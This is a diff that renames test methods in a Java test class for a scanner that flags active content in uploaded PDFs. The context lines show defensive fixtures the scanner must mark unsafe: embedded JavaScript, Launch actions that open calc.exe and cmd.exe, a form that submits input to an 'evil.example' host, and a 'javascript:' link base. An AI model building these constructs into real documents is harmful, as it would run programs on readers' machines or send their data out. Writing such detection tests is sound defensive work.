@@ -23,7 +23,7 @@ class PdfActiveTest {
     }
 
     @Test
-    void what_is_unsafe_says_so() {
+    void every_unsafe_verdict_has_the_state_unsafe() {
         for (var verdict : Verdict.values())
             if (verdict.name().startsWith("PDF_"))
                 assertThat(verdict.state()).as(verdict.name()).isEqualTo(DocumentState.UNSAFE);
@@ -59,7 +59,7 @@ class PdfActiveTest {
     }
 
     @Test
-    void a_script_in_a_packed_list_of_objects_is_found_however_often_it_is_packed() {
+    void a_script_in_a_compressed_object_stream_is_found_however_often_it_is_compressed() {
         var list = text("4 0 " + SCRIPT);
         var once = deflated(list);
         assertThat(verdict(packed("/FlateDecode", once, 4, 1, "/OpenAction 4 0 R")))
@@ -69,7 +69,7 @@ class PdfActiveTest {
     }
 
     @Test
-    void a_list_of_objects_that_we_cannot_unpack_is_broken_for_others_may() {
+    void an_object_stream_that_cannot_be_decoded_is_broken() {
         var list = text("4 0 " + SCRIPT);
         for (var filter : new String[] {"/DCTDecode", "/Unheard", "[/FlateDecode 7]", " 7"})
             assertThat(verdict(packed(filter, list, 4, 1, "/OpenAction 4 0 R")))
@@ -80,14 +80,14 @@ class PdfActiveTest {
     }
 
     @Test
-    void what_is_behind_an_owners_password_is_looked_into() {
+    void content_behind_an_owner_password_is_searched() {
         assertThat(verdict(Uploaded.aProtectedPdf(
                         "", pdf -> pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")))))
                 .isEqualTo(Verdict.PDF_SCRIPT);
     }
 
     @Test
-    void what_opens_programs_or_other_files_is_unsafe() {
+    void an_action_that_opens_programs_or_other_files_is_unsafe() {
         for (var action : new String[] {
             "/S/Launch/F(calc.exe)",
             "/S/Launch/Win<</F(cmd.exe)>>",
@@ -102,7 +102,7 @@ class PdfActiveTest {
     }
 
     @Test
-    void a_form_that_sends_what_is_typed_is_unsafe() {
+    void a_form_that_submits_its_input_is_unsafe() {
         assertThat(verdict(annotation("/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(http://evil.example)>>")))
                 .isEqualTo(Verdict.PDF_SENDS);
     }
@@ -121,13 +121,13 @@ class PdfActiveTest {
     }
 
     @Test
-    void films_and_three_dimensions_are_unsafe() {
+    void films_and_3d_models_are_unsafe() {
         for (var kind : new String[] {"RichMedia", "3D", "Movie", "Sound", "Screen"})
             assertThat(verdict(annotation("/Subtype/" + kind))).isEqualTo(Verdict.PDF_MEDIA);
     }
 
     @Test
-    void a_form_that_is_a_program_is_unsafe() {
+    void an_xfa_form_is_unsafe() {
         assertThat(verdict(catalog("/AcroForm<</Fields[]/XFA[(template)4 0 R]>>", "null")))
                 .isEqualTo(Verdict.PDF_XFA);
         assertThat(verdict(catalog("/AcroForm<</XFA 4 0 R>>", "<</Length 1>>stream\na\nendstream")))
@@ -174,7 +174,7 @@ class PdfActiveTest {
     }
 
     @Test
-    void what_links_begin_with_may_not_be_odd_either() {
+    void an_odd_base_for_links_is_unsafe() {
         assertThat(verdict(catalog("/URI<</Base(javascript:)>>"))).isEqualTo(Verdict.PDF_ODD_LINK);
         assertThat(verdict(catalog("/URI<</Base(https://example.org/)>>"))).isEqualTo(Verdict.FINE);
         assertThat(verdict(catalog("/URI<<>>"))).isEqualTo(Verdict.FINE);
